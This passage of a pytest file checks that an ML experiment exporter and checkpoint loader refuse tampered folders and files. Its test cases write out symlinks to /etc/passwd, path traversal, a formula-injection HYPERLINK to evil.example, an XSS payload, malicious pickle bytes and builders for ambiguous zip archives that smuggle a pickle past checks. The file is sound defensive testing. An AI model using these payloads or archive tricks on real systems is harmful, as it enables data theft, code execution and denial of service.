"""Folders that lie: links out, FIFOs, '..', huge and tampered files in an experiment or a checkpoint.

export and report never hang, crash or read or write outside the experiment: one bad trial becomes a row
marked in the table (its error names the file and field) while the others export intact; a bad folder is one
line and exit 2. load_model and predict refuse what they must, in one line. Everything here is a real file."""

import collections
import io
import json
import os
import shutil
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import torch
from conftest import CLASSES, NO_OVERRIDE

from tune_alexnet import checkpoint
from tune_alexnet.cli import main
from tune_alexnet.export import FORMULA_START
from tune_alexnet.model import AlexNet
from tune_alexnet.settings import SETTINGS_FILE

PASSWD = "/etc/passwd"  # a file outside every experiment, readable by anyone
PASSWD_MARK = "root:"  # what /etc/passwd starts with: it must never reach a table


@dataclass
class Folder:
    """A copy of the mixed experiment to break, and a folder beside it that nothing may read or write."""

    exp: Path
    outside: Path
    before: pd.DataFrame  # the table of the intact experiment

    def trial(self, status: str) -> tuple[str, Path]:
        """(trial id, folder) of the first trial that ended with `status` in the intact table."""
        trial_id = self.before[self.before["status"] == status]["trial_id"].iloc[0]
        return trial_id, next(self.exp.glob(f"train_cifar_{trial_id}_*"))

    def state(self) -> Path:
        (state,) = self.exp.glob("experiment_state-*.json")
        return state

    def edit_state(self, status: str, edit) -> str:
        """`edit(trial)` on the JSON fields of one trial of Tune's experiment state; returns its id."""
        trial_id, _ = self.trial(status)
        data = json.loads(self.state().read_text())
        for entry in data["trial_data"]:
            t = json.loads(entry[0])
            if t["trial_id"] == trial_id:
                edit(t)
                entry[0] = json.dumps(t)
        self.state().write_text(json.dumps(data))
        return trial_id

    def edit_results(self, status: str, edit) -> str:
        """`edit(lines)` on the parsed lines of a trial's result.json; returns its id."""
        trial_id, folder = self.trial(status)
        lines = [json.loads(ln) for ln in (folder / "result.json").read_text().splitlines()]
        edit(lines)
        (folder / "result.json").write_text("".join(json.dumps(ln) + "\n" for ln in lines))
        return trial_id

    def replace(self, path: Path, with_what) -> None:
        """`path` becomes a symbolic link to `with_what` (a path), a FIFO ("fifo") or a sparse file of N bytes."""
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink()
        if with_what == "fifo":
            os.mkfifo(path)
        elif isinstance(with_what, int):
            with open(path, "wb") as f:
                f.truncate(with_what)  # no blocks written
        else:
            path.symlink_to(with_what)

    def settings(self, edit) -> None:
        path = self.exp / SETTINGS_FILE
        path.write_text(json.dumps(edit(json.loads(path.read_text()))))

    def drop_state(self) -> None:
        for state in self.exp.glob("experiment_state-*.json"):
            state.unlink()


@pytest.fixture
def folder(mixed_experiment, tmp_path) -> Folder:
    path, exp = mixed_experiment
    copy = tmp_path / "results" / "mixed"
    shutil.copytree(path, copy)
    (tmp_path / "outside").mkdir()
    return Folder(copy, tmp_path / "outside", exp.table)


@dataclass
class Row:
    """Export exits 0; the victim's row has `status` and an error holding `needle` (None: no error, accuracy
    unchanged); every other trial is as before (`rebuilt`: Tune's state was gone, so unfinished ones say
    unknown)."""

    status: str
    needle: str | None
    rebuilt: bool = False


@dataclass
class Refused:
    """Export and report exit 2 with one line naming the file and `needle`."""

    needle: str


def _moved_out(f: Folder, status: str) -> Path:
    """A trial's folder, copied outside the experiment with a telltale accuracy (99.99) in its results."""
    _, folder = f.trial(status)
    twin = f.outside / folder.name
    shutil.copytree(folder, twin)
    lines = [json.loads(ln) for ln in (twin / "result.json").read_text().splitlines()]
    for ln in lines:
        ln["best_val_acc"] = 99.99
    (twin / "result.json").write_text("".join(json.dumps(ln) + "\n" for ln in lines))
    return twin


def swap(status: str, name: str | None, with_what):
    """Replace a trial's file `name` (None: its folder) by `with_what` (see Folder.replace; a function of the
    Folder gives a path made for the case)."""

    def tamper(f: Folder) -> str:
        trial_id, folder = f.trial(status)
        target = with_what(f) if callable(with_what) else with_what
        f.replace(folder / name if name else folder, target)
        return trial_id

    return tamper


def swap_in_checkpoint(name: str | None):
    """The trained trial's checkpoint file `name` (None: the checkpoint folder) becomes a link to a copy outside."""

    def tamper(f: Folder) -> str:
        trial_id, folder = f.trial("terminated")
        (ckpt,) = folder.glob("checkpoint_*")
        inside, outside = (ckpt / name, f.outside / name) if name else (ckpt, f.outside / ckpt.name)
        (shutil.copy if name else shutil.copytree)(inside, outside)
        f.replace(inside, outside)
        return trial_id

    return tamper


def without_state(tamper):
    """`tamper`, with Tune's experiment state gone: the table is rebuilt from the trial folders."""

    def both(f: Folder) -> str:
        f.drop_state()
        return tamper(f)

    return both


def lines_set(status: str = "terminated", **changes):
    """Every result line of a trial gets `changes`."""
    return lambda f: f.edit_results(status, lambda lines: [ln.update(changes) for ln in lines])


def line_added(text: str, status: str = "terminated"):
    def tamper(f: Folder) -> str:
        trial_id, folder = f.trial(status)
        with open(folder / "result.json", "a") as out:
            out.write(text + "\n")
        return trial_id

    return tamper


def config_set(**changes):
    return lambda f: f.edit_state("terminated", lambda t: t["config"].update(changes))


def state_set(**changes):
    return lambda f: f.edit_state("terminated", lambda t: t.update(changes))


def renamed(name: str | bytes):
    def tamper(f: Folder) -> str:
        trial_id, folder = f.trial("terminated")
        os.rename(folder, os.path.join(os.fsencode(f.exp), name) if isinstance(name, bytes) else f.exp / name)
        return trial_id

    return without_state(tamper)


def written(status: str, name: str, text: str):
    def tamper(f: Folder) -> str:
        trial_id, folder = f.trial(status)
        (folder / name).write_text(text)
        return trial_id

    return tamper


def settings_set(edit):
    return lambda f: f.settings(edit)


def settings_text(text: str):
    return lambda f: (f.exp / SETTINGS_FILE).write_text(text)


def relative_logdir_out(f: Folder) -> str:
    return f.edit_state(
        "terminated", lambda t: t.update(relative_logdir=f"../../outside/{_moved_out(f, 'terminated').name}")
    )


def checkpoint_dir_name_out(f: Folder) -> str:
    shutil.copytree(next(f.trial("terminated")[1].glob("checkpoint_*")), f.outside / "ckpt")
    return lines_set(checkpoint_dir_name="../../outside/ckpt")(f)


def long_error(f: Folder) -> str:
    trial_id, folder = f.trial("errored")
    (folder / "error.txt").write_text("x" * (3 * 2**20) + "\nValueError: the last line\n")
    return trial_id


REBUILT = Row("unknown", None, rebuilt=True)
CASES = {
    # Links, '..' and special files: nothing outside is read, nothing blocks, nothing fills memory.
    "error.txt links to /etc/passwd": (
        swap("errored", "error.txt", PASSWD),
        Row("errored", "error.txt is a symbolic link"),
    ),
    "error.txt is a FIFO": (swap("errored", "error.txt", "fifo"), Row("errored", "error.txt is a FIFO")),
    "error.txt of 3 MB: its tail is read": (long_error, Row("errored", "ValueError: the last line")),
    # its last line, as a spreadsheet and a Markdown viewer would run it: kept as text in results.csv and report.md
    "error.txt a formula and HTML": (
        written(
            "errored",
            "error.txt",
            'Traceback\n=HYPERLINK("http://evil.example/?"&A1,"go") <img src=x onerror=alert(3)>\n',
        ),
        Row("errored", '=HYPERLINK("http://evil.example/?"&A1,"go") <img'),
    ),
    "result.json is a FIFO": (swap("terminated", "result.json", "fifo"), Row("damaged", "result.json is a FIFO")),
    "result.json links to /dev/zero": (
        swap("terminated", "result.json", "/dev/zero"),
        Row("damaged", "result.json is a symbolic link"),
    ),
    "result.json links to a copy outside": (
        swap("terminated", "result.json", lambda f: _moved_out(f, "terminated") / "result.json"),
        Row("damaged", "result.json is a symbolic link"),
    ),
    "result.json links inside the experiment (refused too)": (
        swap("terminated", "result.json", lambda f: f.trial("diverged")[1] / "result.json"),
        Row("damaged", "result.json is a symbolic link"),
    ),
    "result.json over 64 MB": (swap("terminated", "result.json", 64 * 2**20 + 1), Row("damaged", "at most 64 MB")),
    "trial folder links to a copy outside": (
        swap("terminated", None, lambda f: _moved_out(f, "terminated")),
        Row("damaged", "is a symbolic link"),
    ),
    "relative_logdir leads out with ../": (relative_logdir_out, Row("damaged", "relative_logdir is")),
    "relative_logdir is absolute": (state_set(relative_logdir="/etc"), Row("damaged", "relative_logdir is")),
    "checkpoint_dir_name leads out with ../": (checkpoint_dir_name_out, Row("damaged", "'checkpoint_dir_name' is")),
    "best model.pt links outside": (swap_in_checkpoint("model.pt"), Row("terminated", "model.pt is a symbolic link")),
    "best model.json links outside": (
        swap_in_checkpoint("model.json"),
        Row("terminated", "model.json is a symbolic link"),
    ),
    "best checkpoint folder links outside": (swap_in_checkpoint(None), Row("terminated", "is a symbolic link")),
    "experiment state links to /dev/zero": (lambda f: f.replace(f.state(), "/dev/zero"), REBUILT),
    "experiment state is a FIFO": (lambda f: f.replace(f.state(), "fifo"), REBUILT),
    "experiment state over 256 MB": (lambda f: f.replace(f.state(), 256 * 2**20 + 1), REBUILT),
    "params.json links to /etc/passwd": (
        without_state(swap("terminated", "params.json", PASSWD)),
        Row("damaged", "params.json is a symbolic link", rebuilt=True),
    ),
    "settings link to /etc/passwd": (
        lambda f: f.replace(f.exp / SETTINGS_FILE, PASSWD),
        Refused(f"{SETTINGS_FILE} is a symbolic link"),
    ),
    "settings are a FIFO": (lambda f: f.replace(f.exp / SETTINGS_FILE, "fifo"), Refused(f"{SETTINGS_FILE} is a FIFO")),
    # The sweep's settings, tampered: the folder as a whole is refused, naming the field.
    "settings are a list": (settings_set(lambda s: [s]), Refused(f"{SETTINGS_FILE} holds a list")),
    "settings are not JSON": (settings_text('{"grid": '), Refused(f"{SETTINGS_FILE} is not JSON")),
    "settings epochs a string": (settings_set(lambda s: {**s, "epochs": "abc"}), Refused("epochs: 'abc'")),
    "settings epochs 10**20": (settings_set(lambda s: {**s, "epochs": 10**20}), Refused("epochs: 10000")),
    "settings epochs of 400 digits": (
        settings_set(lambda s: {**s, "epochs": 10**400}),
        Refused("epochs: 10000000000000000000... (401 digits)"),
    ),
    "settings grid lr a string": (
        settings_set(lambda s: {**s, "grid": {**s["grid"], "lr": ["fast"]}}),
        Refused("grid.lr: 'fast'"),
    ),
    "settings grid without lr": (
        settings_set(lambda s: {**s, "grid": {k: v for k, v in s["grid"].items() if k != "lr"}}),
        Refused("grid:"),
    ),
    "settings width a string": (
        settings_set(lambda s: {**s, "trial": {"width": "wide"}}),
        Refused("trial.width: 'wide'"),
    ),
    "settings data a list": (settings_set(lambda s: {**s, "data": [1]}), Refused("data is a list")),
    "settings data train_images Infinity": (
        settings_set(lambda s: {**s, "data": {**s["data"], "train_images": float("inf")}}),
        Refused("data.train_images is Infinity"),
    ),
    "settings data source of two lines": (  # it would write a heading of its own into report.md
        settings_set(lambda s: {**s, "data": {**s["data"], "source": "x\n# injected"}}),
        Refused('data.source is "x\\n# injected"'),
    ),
    # One trial's results, tampered: that trial is damaged, the others export intact.
    "epoch NaN": (lines_set(epoch=float("nan")), Row("damaged", "'epoch' is NaN")),
    "epoch a string": (lines_set(epoch="3"), Row("damaged", "'epoch' is \"3\"")),
    "epoch 1e23": (lines_set(epoch=1e23), Row("damaged", "'epoch' is 1e+23")),
    "epoch negative": (lines_set(epoch=-1), Row("damaged", "'epoch' is -1")),
    "epoch 10**20": (lines_set(epoch=10**20), Row("damaged", "'epoch' is 10000000000000000000... (21 digits)")),
    "epoch of 400 digits": (
        lines_set(epoch=10**400),
        Row("damaged", "'epoch' is 10000000000000000000... (401 digits)"),
    ),
    "best_epoch 10**18": (lines_set(best_epoch=10**18), Row("damaged", "'best_epoch' is")),
    "best_val_acc a string": (lines_set(best_val_acc="high"), Row("damaged", "'best_val_acc' is \"high\"")),
    "best_val_acc 1e23": (lines_set(best_val_acc=1e23), Row("damaged", "'best_val_acc' is 1e+23")),
    "diverged a string": (lines_set(diverged="yes"), Row("damaged", "'diverged' is \"yes\"")),
    "a result line is a list": (line_added("[1, 2]"), Row("damaged", "it holds a list")),
    "a result line nested too deep": (line_added("[" * 100_000), Row("damaged", "recursion")),
    "train_time_s null (allowed: unknown)": (lines_set(train_time_s=None), Row("terminated", None)),
    # One trial's config in Tune's experiment state, tampered.
    "config without lr": (
        lambda f: f.edit_state("terminated", lambda t: t["config"].pop("lr")),
        Row("damaged", "'lr' is missing"),
    ),
    "config lr a string": (config_set(lr="fast"), Row("damaged", "'lr' is \"fast\"")),
    "config batch_size 32.5": (config_set(batch_size=32.5), Row("damaged", "'batch_size' is 32.5")),
    "config dropout a string": (config_set(dropout="true"), Row("damaged", "'dropout' is \"true\"")),
    "config epochs 10**20": (
        config_set(epochs=10**20),
        Row("damaged", "'epochs' is 10000000000000000000... (21 digits)"),
    ),
    "config optimizer leads out": (config_set(optimizer="../../../outside/x"), Row("damaged", "'optimizer' is")),
    "config optimizer an object": (config_set(optimizer={"a": 1}), Row("damaged", "'optimizer' is a JSON object")),
    "config optimizer a nested list": (config_set(optimizer=[1, [2, {"b": None}]]), Row("damaged", "'optimizer' is a")),
    "config optimizer of 243 characters": (config_set(optimizer="x" * 243), Row("damaged", "'optimizer' is")),
    "config run 10**20": (config_set(run=10**20), Row("damaged", "'run' is")),
    "config a list": (state_set(config=[1, 2]), Row("damaged", "the config is a list")),
    "status unknown to Tune": (state_set(status="WEIRD"), Row("damaged", 'status is "WEIRD"')),
    "trial_id a number": (state_set(trial_id=5), Row("damaged", "trial_id is 5")),
    "trial_data not a list": (lambda f: f.state().write_text(json.dumps({"trial_data": 5})), REBUILT),
    "trial_data names no trial": (lambda f: f.state().write_text(json.dumps({"trial_data": []})), REBUILT),
    # Tune's state gone: the table is rebuilt from the trial folders, which may be odd.
    "params.json holds a list": (
        without_state(written("terminated", "params.json", "[1]")),
        Row("damaged", "the config is a list", rebuilt=True),
    ),
    "trial folder train_cifar_x": (
        renamed("train_cifar_x"),
        Row("damaged", "'train_cifar_x' is not named like Tune's", rebuilt=True),
    ),
    "trial folder with unicode": (renamed("train_cifar_é_ü"), Row("damaged", "not named like Tune's", rebuilt=True)),
    "trial folder not UTF-8": (renamed(b"train_cifar_\xff\xfe"), Row("damaged", "is not a plain name", rebuilt=True)),
    "a folder without underscores is no trial": (renamed("nounderscores"), REBUILT),
}


def _files_outside(root: Path, exp: Path) -> dict:
    """Every file under `root` but outside the experiment, with its size and modification time."""
    found = {}
    for dirpath, _, filenames in os.walk(root):
        if Path(dirpath) == exp or exp in Path(dirpath).parents:
            continue
        for name in filenames:
            st = os.lstat(os.path.join(dirpath, name))
            found[os.path.join(dirpath, name)] = (st.st_size, st.st_mtime_ns)
    return found


def _run(argv: list[str], capsys) -> tuple[int, str]:
    try:
        code = main(argv)
    except SystemExit as e:
        code = e.code
    return code, capsys.readouterr().err


@pytest.mark.slow
@pytest.mark.timeout(30, func_only=True)  # a FIFO that blocked would hang here: that is a failure
@pytest.mark.parametrize("case", list(CASES), ids=list(CASES))
def test_export_and_report_of_a_folder_that_lies(case, folder, capsys):
    tamper, expect = CASES[case]
    victim = tamper(folder)
    root = folder.exp.parents[1]
    outside = _files_outside(root, folder.exp)
    for command in ("export", "report"):
        code, err = _run([command, str(folder.exp)], capsys)
        assert "Traceback" not in err, err
        if isinstance(expect, Refused):
            lines = [ln for ln in err.splitlines() if ln.strip()]
            assert code == 2 and len(lines) == 1, err
            assert SETTINGS_FILE in lines[0] and expect.needle in lines[0], lines[0]
        else:
            assert code == 0, err
            rebuilt = "is missing or unreadable" in err or "are not in its experiment state" in err
            assert rebuilt == expect.rebuilt, err
    assert _files_outside(root, folder.exp) == outside  # nothing written (or touched) outside the experiment
    if isinstance(expect, Row):
        _check_table(folder, victim, expect)


def _check_table(folder: Folder, victim: str | None, expect: Row) -> None:
    table = pd.read_parquet(folder.exp / "results.parquet")
    assert not table["error"].fillna("").str.contains(PASSWD_MARK).any()  # nothing of /etc/passwd
    assert not (table["final_accuracy"] == 99.99).any()  # nothing of the copy outside
    after = table.dropna(subset=["trial_id"]).set_index("trial_id")
    if expect.needle is not None:  # the victim, marked
        hit = table[
            (table["status"] == expect.status) & table["error"].fillna("").str.contains(expect.needle, regex=False)
        ]
        assert len(hit) == 1, table[["trial_id", "status", "error"]].to_string()
        if expect.status == "damaged":
            assert pd.isna(hit["final_accuracy"].iloc[0]) and pd.isna(hit["best_checkpoint"].iloc[0])
    elif victim in after.index:  # tampered within what is allowed: the victim is as before
        was = folder.before.set_index("trial_id").loc[victim]
        assert after.loc[victim, "status"] == expect.status and pd.isna(after.loc[victim, "error"])
        assert after.loc[victim, "final_accuracy"] == was["final_accuracy"]
    others = folder.before[folder.before["trial_id"] != victim].set_index("trial_id")
    assert set(others.index) <= set(after.index), table.to_string()
    kept = after.loc[others.index]
    assert (kept["final_accuracy"].fillna(-1) == others["final_accuracy"].fillna(-1)).all()
    finished = others["status"].isin(["terminated", "diverged"])
    assert (kept.loc[finished, "status"] == others.loc[finished, "status"]).all(), kept.to_string()
    if not expect.rebuilt:
        assert (kept["status"] == others["status"]).all(), kept.to_string()
    for ckpt in table["best_checkpoint"].dropna():  # inside the experiment, and it loads
        assert os.path.realpath(ckpt).startswith(str(folder.exp.resolve()) + os.sep), ckpt
        assert checkpoint.load_model(ckpt)(torch.zeros(1, 3, 32, 32)).shape == (1, 10)
    csv = pd.read_csv(folder.exp / "results.csv", dtype=str, keep_default_na=False)
    assert not csv["error"].str.startswith(FORMULA_START).any(), csv["error"].tolist()  # no cell a formula
    assert "<img" not in (folder.exp / "report.md").read_text()  # no HTML of the experiment's in the report
    unreadable = table["status"].isin(["damaged", "lost"]).any()
    assert ("## Trials that could not be read" in (folder.exp / "report.md").read_text()) == unreadable


# --- load_model: a checkpoint folder that lies -------------------------------------------------------------------

MODEL_ARGS = {"dropout": False, "batchnorm": True, "width": 0.125}


@pytest.fixture
def ckpt(tmp_path) -> Path:
    """A real checkpoint folder of a small network, as a trial writes it."""
    d = tmp_path / "ckpt"
    d.mkdir()
    weights = AlexNet(**MODEL_ARGS).state_dict()
    checkpoint.write(d, weights, MODEL_ARGS, {"epoch": 1}, classes=CLASSES)
    (tmp_path / "outside").mkdir()
    return d


def _model_json(**changes):
    def tamper(d: Path) -> None:
        args = {**MODEL_ARGS, "classes": list(CLASSES), **changes}
        (d / "model.json").write_text(json.dumps({k: v for k, v in args.items() if v is not ...}))

    return tamper


def _swap(name: str, with_what):
    def tamper(d: Path) -> None:
        target = d / name
        if with_what == "outside":
            shutil.copy(target, d.parent / "outside" / name)
        target.unlink()
        if with_what == "fifo":
            os.mkfifo(target)
        elif isinstance(with_what, int):
            with open(target, "wb") as f:
                f.truncate(with_what)
        else:
            target.symlink_to(d.parent / "outside" / name if with_what == "outside" else with_what)

    return tamper


def _edit_weights(edit):
    """model.pt with its first tensor replaced by `edit(tensor)`: the right shape, but not weights a sweep saves."""

    def tamper(d: Path) -> None:
        state = torch.load(d / "model.pt", weights_only=True)
        state["features.0.weight"] = edit(state["features.0.weight"])
        torch.save(state, d / "model.pt")

    return tamper


def _pickle(raw: bytes, name: str = "model.pt", hidden: bool = False):
    """`name` with its pickle (the archive's data.pkl) replaced by `raw`, written by hand as an attacker would; or,
    `hidden`, the real one moved to x/data.pkl and `raw` put where torch finds it under another case, Data.pkl."""

    def tamper(d: Path) -> None:
        import zipfile

        with zipfile.ZipFile(d / name) as old:
            members = [(i.filename, old.read(i)) for i in old.infolist()]
        with zipfile.ZipFile(d / name, "w") as new:
            for member, data in members:
                if member.endswith("/data.pkl"):
                    folder = member[: -len("data.pkl")]
                    if hidden:
                        new.writestr(f"{folder}x/data.pkl", data)
                    member, data = f"{folder}{'Data.pkl' if hidden else 'data.pkl'}", b"\x80\x02" + raw
                new.writestr(member, data)

    return tamper


def _local(member: bytes, data: bytes) -> bytes:
    """A zip's local header of a stored member, then its data."""
    import struct
    import zlib

    head = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(member), 0)
    return b"PK\x03\x04" + head + member + data


def _central(member: bytes, data: bytes, at: int) -> bytes:
    """A zip's directory entry of a stored member whose local header lies `at`."""
    import struct
    import zlib

    fields = (20, 20, 0, 0, 0, 0, zlib.crc32(data), len(data), len(data), len(member), 0, 0, 0, 0, 0, at)
    return b"PK\x01\x02" + struct.pack("<HHHHHHIIIHHHHHII", *fields) + member


def _members(path: Path) -> list[tuple[bytes, bytes]]:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return [(i.filename.encode(), archive.read(i)) for i in archive.infolist()]


def _two_archives(raw: bytes, name: str = "model.pt"):
    """`name` rewritten as one file holding two directories of the same members: Python's zipfile takes the last
    (the archive as saved, shifted by the bytes before it), torch's reader the one the end record points at, whose
    data.pkl is `raw`. Both directories are of one size, so the end record fits either."""

    def tamper(d: Path) -> None:
        import struct

        members = dict(_members(d / name))
        (pkl,) = [m for m in members if m.endswith(b"/data.pkl")]
        size = sum(46 + len(m) for m in members)  # of one directory
        evil = b"\x80\x02" + raw
        evil += b"\0" * max(0, size - 30 - len(pkl) - len(evil) + 8)  # (unpickling stops at its STOP)
        out, at = bytearray(_local(pkl, evil)), {}
        for member, data in members.items():
            at[member] = len(out)
            out += _local(member, data)
        start = len(out)
        out += b"".join(
            _central(m, evil if m == pkl else data, 0 if m == pkl else at[m]) for m, data in members.items()
        )
        out += b"".join(_central(m, data, at[m] - size) for m, data in members.items())
        out += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), size, start, 0)
        (d / name).write_bytes(bytes(out))

    return tamper


def _two_zip64_records(raw: bytes, locator_elsewhere: bool, name: str = "model.pt"):
    """`name` rewritten with its members twice, the second copy's pickle `raw`, each copy with a directory and a
    zip64 end record. Python's zipfile takes the record right before the locator (the first copy's) whatever the
    locator says; torch's reader the one the locator points at (`locator_elsewhere`), or, where it points at none,
    the directory that the plain end record names."""

    def tamper(d: Path) -> None:
        import struct

        members = _members(d / name)
        evil = [(m, b"\x80\x02" + raw if m.endswith(b"/data.pkl") else data) for m, data in members
                if b"/data/" not in m]  # (no tensors: the file stays within the size model.pt may have)  # fmt: skip
        out, directories = bytearray(), {}
        for copy, which in ((members, "first"), (evil, "second")):
            directory = b""
            for member, data in copy:
                directory += _central(member, data, len(out))
                out += _local(member, data)
            directories[which] = (directory, len(copy))
        records = {}
        for which in ("second", "first"):  # the first copy's record last, right before the locator
            at = len(out)
            directory, count = directories[which]
            out += directory
            records[which] = len(out)
            out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(directory), at)
        directory, count = directories["second"]
        plain = (0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF) if locator_elsewhere else (count, count, len(directory),
                 records["second"] - len(directory))  # fmt: skip
        out += struct.pack("<IIQI", 0x07064B50, 0, records["second"] if locator_elsewhere else 0, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, *plain, 0)
        (d / name).write_bytes(bytes(out))

    return tamper


def _legacy_before(raw: bytes, name: str = "model.pt"):
    """`name` rewritten as torch's legacy format (no zip) whose pickle is `raw`, followed by the archive as saved,
    its offsets counted from the file's start: Python's zipfile finds the archive, torch reads the legacy part."""

    def tamper(d: Path) -> None:
        import struct

        legacy = io.BytesIO()
        torch.save({}, legacy, _use_new_zipfile_serialization=False)
        out = bytearray(legacy.getvalue().replace(b"\x80\x02}q\x00.", b"\x80\x02" + raw))
        members, directory = _members(d / name), b""
        for member, data in members:
            directory += _central(member, data, len(out))
            out += _local(member, data)
        at = len(out)
        out += (
            directory + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), len(directory), at, 0)
        )
        (d / name).write_bytes(bytes(out))

    return tamper


def _deflated(name: str = "model.pt"):
    """`name` with its members deflated, which torch's reader inflates though torch.save never writes it: a few MB
    may unpack to GBs."""

    def tamper(d: Path) -> None:
        import zipfile

        with zipfile.ZipFile(d / name) as old:
            members = [(i.filename, old.read(i)) for i in old.infolist()]
        with zipfile.ZipFile(d / name, "w", zipfile.ZIP_DEFLATED) as new:
            for member, data in members:
                new.writestr(member, data)

    return tamper


def _zip_of_empty_files(path: Path, count: int, say: int | None = None, name_width: int = 0) -> None:
    """A zip of `count` empty files, their names padded to `name_width` digits; its end record saying `say` files,
    where given."""
    import struct
    import zipfile

    with zipfile.ZipFile(path, "w") as archive:
        for i in range(count):
            archive.writestr(f"model/data/{i:0{name_width}d}", b"")
    if say is not None:
        raw = bytearray(path.read_bytes())
        end = raw.rindex(b"PK\x05\x06")
        raw[end + 8 : end + 12] = struct.pack("<HH", say, say)
        path.write_bytes(bytes(raw))


def _other_weights(d: Path) -> None:
    torch.save(AlexNet(**{**MODEL_ARGS, "batchnorm": False}).state_dict(), d / "model.pt")


BYTEARRAY = b"cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R."  # bytearray(2**30): 1 GB from 30 bytes
TUPLE_CHAIN = b"})r\0\0\0\0" + b"".join(b"j" + k.to_bytes(4, "little") + b"\x86r" + (k + 1).to_bytes(4, "little")
                                         for k in range(64)) + b"K\x00s."  # fmt: skip

LOAD_CASES = {
    "width 40 (gigabytes)": (_model_json(width=40), "model.json: 'width' is 40"),
    "width 0": (_model_json(width=0), "'width' is 0"),
    "width negative": (_model_json(width=-1), "'width' is -1"),
    "width a string": (_model_json(width="1"), "'width' is \"1\""),
    "width true": (_model_json(width=True), "'width' is true"),
    "width NaN": (_model_json(width=float("nan")), "'width' is NaN"),
    "width of 400 digits": (
        _model_json(width=10**400),
        "'width' is 10000000000000000000... (401 digits)",
    ),
    "dropout a string": (_model_json(dropout="yes"), "'dropout' is \"yes\""),
    "batchnorm missing": (_model_json(batchnorm=...), "'batchnorm' is missing"),
    "an unknown argument": (_model_json(num_classes=1000), "'num_classes' is not one of AlexNet's arguments"),
    "11 classes": (_model_json(classes=[*CLASSES, "extra"]), "'classes' is a list (11 items)"),
    "classes not strings": (_model_json(classes=[1, 2]), "'classes'"),
    "3 classes for 10 outputs": (_model_json(classes=["a", "b", "c"]), "'classes' is a list (3 items)"),
    "a class name of 1000 characters": (_model_json(classes=["x" * 1000]), "'classes'"),
    "model.json a list": (lambda d: (d / "model.json").write_text("[1]"), "it holds a list"),
    "model.json not JSON": (lambda d: (d / "model.json").write_text("{"), "model.json is not JSON"),
    "model.json links to /etc/passwd": (_swap("model.json", PASSWD), "model.json is a symbolic link"),
    "model.json is a FIFO": (_swap("model.json", "fifo"), "model.json is a FIFO"),
    "model.json of 2 MB": (_swap("model.json", 2 * 2**20), "allowed: at most 1 MB"),
    "model.pt links outside": (_swap("model.pt", "outside"), "model.pt is a symbolic link"),
    "model.pt links to /dev/zero": (_swap("model.pt", "/dev/zero"), "model.pt is a symbolic link"),
    "model.pt is a FIFO": (_swap("model.pt", "fifo"), "model.pt is a FIFO"),
    "model.pt larger than its network": (_swap("model.pt", 200 * 2**20), "model.pt is 200 MB; allowed: at most"),
    "model.pt not a torch file": (
        lambda d: (d / "model.pt").write_bytes(b"not a zip"),
        "model.pt is not what torch.save writes",
    ),
    "model.pt of another network": (_other_weights, "model.pt does not hold the weights"),
    "model.pt missing": (lambda d: (d / "model.pt").unlink(), "model.pt is missing"),
    # 65 bytes of model.json against 2.8 GB of network: the shapes are compared before the network is built
    "model.json says width 4": (
        _model_json(width=4),
        "model.pt does not hold the weights of the network model.json describes: tensor 'features.0.weight' has "
        "shape (8, 3, 5, 5), the network needs (256, 3, 5, 5)",
    ),
    "model.pt with a meta tensor (no data)": (
        _edit_weights(lambda t: torch.empty(t.shape, device="meta")),
        "tensor 'features.0.weight' is meta (no data), the network needs strided torch.float32",
    ),
    "model.pt with a sparse tensor": (  # (its rebuilders, torch.Size among them, take iterables: a tensor's rows)
        _edit_weights(lambda t: t.to_sparse()),
        "model.pt was refused: it holds Python objects besides tensors, and loading them would run code "
        "('torch._utils' is called: torch._utils._rebuild_sparse_tensor)",
    ),
    "model.pt with int8 weights": (
        _edit_weights(lambda t: t.to(torch.int8)),
        "tensor 'features.0.weight' is strided torch.int8, the network needs strided torch.float32",
    ),
    "model.pt with NaN weights": (
        _edit_weights(lambda t: torch.full_like(t, float("nan"))),
        "tensor 'features.0.weight' holds values that are not finite",
    ),
    "model.pt with keys of other types beside the network's": (
        lambda d: torch.save(
            {**torch.load(d / "model.pt", weights_only=True), 1: torch.zeros(1), "zz": torch.zeros(1)}, d / "model.pt"
        ),  # fmt: skip
        "model.pt does not hold the weights of the network model.json describes: tensor 'zz' is not one of",
    ),
    # a tensor of 6**10 numbers kept in one (a stride of 0) as a key: it was spelled whole (minutes, gigabytes)
    "model.pt keyed by a tensor": (
        lambda d: torch.save(
            {**torch.load(d / "model.pt", weights_only=True), torch.zeros(1).expand(*(6,) * 10): torch.zeros(1)},
            d / "model.pt",
        ),
        "model.pt was refused: its pickle is not what torch.save writes",
    ),
    # zipfile builds a record of every file before any check: millions of empty ones took minutes and gigabytes
    "model.pt of 10,001 empty files": (
        lambda d: _zip_of_empty_files(d / "model.pt", 10_001),
        "model.pt was refused: it holds 10,001 files, more than 10,000",
    ),
    "model.pt a pickle that runs code": (
        lambda d: torch.save({"features.0.weight": Path("/")}, d / "model.pt"),
        "model.pt was refused: it holds Python objects besides tensors, and loading them would run code",
    ),
    # what torch's weights-only unpickler takes: a bytearray of 1 GB from a few bytes, and a key nested past the C
    # stack (300,000 deep: Python crashed, hashing it); each refused before torch reads a byte of it
    "model.pt calling bytearray(2**30)": (
        _pickle(b"cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R."),
        "model.pt was refused: it holds Python objects besides tensors, and loading them would run code ('builtins'",
    ),
    "model.pt nesting a key 300,000 deep": (
        _pickle(b"}K\x00" + b"\x85" * 300_000 + b"K\x01s."),
        "model.pt was refused: its pickle holds 300,009 bytes, more than 65,536; allowed: a model.pt as a sweep",
    ),
    "model.pt calling bytearray(2**30) in a pickle named Data.pkl": (
        _pickle(b"cbuiltins\nbytearray\nJ\x00\x00\x00\x40\x85R.", hidden=True),
        "model.pt was refused: it holds 2 pickles; a torch.save archive holds one",
    ),
    "model.pt nesting a key 200 deep": (
